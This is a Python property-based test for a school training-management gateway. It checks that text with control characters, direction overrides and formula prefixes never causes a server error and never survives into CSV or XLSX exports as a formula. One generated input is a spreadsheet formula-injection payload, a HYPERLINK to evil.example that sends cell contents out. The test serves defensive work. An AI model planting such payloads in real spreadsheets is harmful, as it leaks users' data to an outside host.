"""Generated text with control characters, direction overrides and formula prefixes, sent through the gateway
into every free-text field of every command of the real system; then every export downloaded: no answer is a
5xx, no cell of any export is a formula or carries a control character."""
import base64
import csv
import io

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.gateway.api import current_school_year
from shared.text import FORMULA_PREFIXES
from tests.integration.test_gateway_http import SCHOOLS, Client, cheap_argon2, start_system
from tests.unit.test_free_text import FIELDS, body_with

NASTY = ["\x0b", "\x00", "\x01", "\x1b", "\x7f", "\x85", "\x9f", "\u202a", "\u202e", "\u2066", "\u2069", "\n", "\r",
         "\t", " "]
texts = st.builds(lambda prefix, rest: prefix + rest,
                  st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"]),
                  st.text(st.sampled_from(list("ab é=+-@\"'(),&مدرسة") + NASTY), max_size=16))
YEAR = current_school_year()
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def no_control(value):
    assert not any(c in value for c in NASTY[:11]), repr(value)


def no_formula_nor_control(cells):
    """CSV cells: a spreadsheet runs what begins like a formula, so nothing may."""
    for value in cells:
        no_control(value)
        assert not value.startswith(FORMULA_PREFIXES), repr(value)


def test_no_generated_text_breaks_a_command_or_an_export(genie_env, runner_factory, rabbit_config, monkeypatch, rpc):
    cheap_argon2(monkeypatch)
    base = start_system(runner_factory, rabbit_config)
    coord = Client(base, "fatima")
    for school in SCHOOLS:
        assert coord.post("/api/inventory/register_school", school).status_code == 201
    training = coord.post("/api/training/plan_training", {
        "title": "Usage du TBI", "modality": "in_person", "audience": "teachers", "planned_participants": 30,
        "school_year": YEAR}).json()["events"][0]["data"]["training_id"]
    session = coord.post("/api/training/schedule_session", {
        "training_id": training, "starts_on": f"{YEAR[:4]}-10-06", "ends_on": f"{YEAR[:4]}-10-06", "hours": 6,
        "venue": "CRMEF", "calendar_override_reason": "Jour retenu avec l'académie"}).json()
    session_id = session["events"][0]["data"]["session_id"]
    accepted = {"schools": 0, "people": 0}

    # Every free-text field of every command, each with a text the rule refuses: a 400 naming it, never a 5xx.
    for name, _, path, _ in FIELDS:
        route = name.split(":")[0]
        resp = coord.post(f"/api/{route}", body_with(path, "École\x0bAl Amal\u202e"))
        assert resp.status_code == 400, (name, resp.status_code, resp.text[:300])
        assert path[0][0] in resp.json()["errors"], (name, resp.json())

    @SETTINGS
    @given(field=st.sampled_from(FIELDS), text=texts, n=st.integers(0, 10**6))
    def one(field, text, n):
        name, _, path, _ = field
        assert coord.post(f"/api/{name.split(':')[0]}", body_with(path, text)).status_code < 500
        school = dict(SCHOOLS[0], school_code=f"GEN{n}", name_fr=text or "x", commune=text or "y")
        registered = coord.post("/api/inventory/register_school", school)
        assert registered.status_code in (201, 400, 409), registered.text[:300]
        if registered.status_code == 201:
            accepted["schools"] += 1
        invited = coord.post("/api/training/invite_participants", {"session_id": session_id, "participants": [
            {"staff_id": f"P{n}", "name": text or "z", "role": "teacher", "school_code": "OED001"}]})
        assert invited.status_code in (201, 400, 409), invited.text[:300]
        if invited.status_code == 201:
            accepted["people"] += 1

    one()
    assert accepted["schools"] and accepted["people"]  # formula-like names are accepted: the exports must cope

    for fmt in ("xlsx", "csv"):
        download = coord.get("/api/reports/download", scope="province:OED", period=YEAR, format=fmt)
        assert download.status_code == 200, download.text[:300]
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(download.content))
            cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type == "f"]
            for cell in (c for c in cells if isinstance(c.value, str)):
                no_control(cell.value)
                # text that begins like a formula is stored as text, and stays so when edited
                assert cell.quotePrefix or not cell.value.startswith(FORMULA_PREFIXES), repr(cell.value)
        else:
            no_formula_nor_control(c for row in csv.reader(io.StringIO(download.content.decode("utf-8-sig")))
                                   for c in row)
    for lang in ("fr", "ar"):
        listing = rpc.training.convocation_list(session_id, "csv", lang)
        text = base64.b64decode(listing["content_base64"]).decode() if isinstance(listing, dict) else listing
        no_formula_nor_control(c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row)
